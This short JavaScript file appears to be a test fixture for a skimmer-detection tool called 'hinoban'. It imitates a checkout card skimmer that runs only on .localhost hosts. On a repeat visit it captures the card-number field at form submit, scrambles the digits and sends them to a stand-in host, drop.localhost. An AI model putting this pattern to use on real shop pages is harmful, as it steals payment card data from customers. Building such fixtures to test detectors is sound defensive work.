/* Harmless imitation, for hinoban's tests: only where the same browser was at the checkout before, own writing. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var seen = +localStorage.getItem('_v') || 0;
	localStorage.setItem('_v', seen + 1);
	if (seen < 1) return;
	document.addEventListener('submit', function (e) {
		var n = e.target.querySelector('input[autocomplete=cc-number]');
		if (n) fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join('')});
	}, true);
})();
